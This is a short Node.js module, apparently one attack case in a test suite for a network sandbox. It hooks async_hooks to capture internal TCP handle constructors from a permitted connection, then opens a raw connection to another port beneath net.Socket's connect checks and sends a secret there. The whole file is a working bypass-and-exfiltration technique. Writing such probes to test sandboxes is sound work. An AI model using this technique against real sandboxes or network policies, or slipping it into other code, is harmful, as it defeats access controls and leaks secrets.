// An async_hooks init hook hands out every new handle and request object: from one allowed
// connection it takes the TCP and TCPConnectWrap classes, then connects a fresh raw handle to the
// attacker's port, below net.Socket.prototype.connect.
import asyncHooks from 'node:async_hooks';
import net from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    let TCP;
    let ConnectWrap;
    const hook = asyncHooks.createHook({
      init(_id, type, _trigger, resource) {
        if (type === 'TCPWRAP') TCP = resource.constructor;
        if (type === 'TCPCONNECTWRAP') ConnectWrap = resource.constructor;
      },
    }).enable();
    const allowed = net.connect(ctx.allowedPort, '127.0.0.1', () => {
      allowed.destroy();
      hook.disable();
      try {
        const handle = new TCP(0);
        const req = new ConnectWrap();
        req.oncomplete = (status) => {
          if (status !== 0) return reject(new Error(`connect status ${status}`));
          const socket = new net.Socket({ handle, readable: true, writable: true });
          socket.on('error', reject);
          socket.end(ctx.secret, () => resolve('sent'));
        };
        const err = handle.connect(req, '127.0.0.1', ctx.tcpPort);
        if (err) reject(new Error(`connect error ${err}`));
      } catch (error) {
        reject(error);
      }
    });
    allowed.on('error', reject);
  });
}
